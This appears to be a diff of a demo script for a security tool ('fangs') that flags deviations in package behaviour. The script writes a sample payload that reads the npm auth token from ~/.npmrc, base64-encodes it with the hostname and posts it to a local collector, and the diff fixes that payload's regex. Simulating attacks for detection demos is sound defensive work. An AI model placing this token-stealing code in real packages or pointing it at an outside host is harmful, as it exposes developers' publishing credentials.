@@ -125,7 +125,7 @@ json.dump(manifest, open(os.path.join(root, "package.json"), "w"), indent=2)
 open(os.path.join(root, "fangs-demo-payload.js"), "w").write("""\
 const fs = require('fs'), os = require('os'), http = require('http');
 let token = '';
-try { token = (fs.readFileSync(os.homedir() + '/.npmrc', 'utf8').match(/_authToken=(\\\\S+)/) || [])[1] || ''; } catch (e) {}
+try { token = (fs.readFileSync(os.homedir() + '/.npmrc', 'utf8').match(/_authToken=(\\S+)/) || [])[1] || ''; } catch (e) {}
 const collector = http.createServer((req, res) => { req.resume(); req.on('end', () => { res.end('ok'); collector.close(); }); });
 collector.listen(0, '127.0.0.1', () => {
   const body = JSON.stringify({ npm: Buffer.from(token).toString('base64'), host: os.hostname() });
@@ -163,7 +163,7 @@ $FANGS run show "${RUN_ID:0:12}"
 say "fangs pending"
 $FANGS pending
 
-TOP="$($FANGS --json deviation list --run "${RUN_ID:0:12}" --limit 1 | "$PY" -c 'import json,sys; d=json.load(sys.stdin); print(d[0]["id"] if d else "")')"
+TOP="$($FANGS --json deviation list --run "${RUN_ID:0:12}" --severity critical --limit 1 | "$PY" -c 'import json,sys; d=json.load(sys.stdin); print(d[0]["id"] if d else "")')"
 if [ -n "$TOP" ]; then
     say "fangs deviation show ${TOP:0:12}      (the top deviation, its evidence and the actor that did it)"
     $FANGS deviation show "${TOP:0:12}"
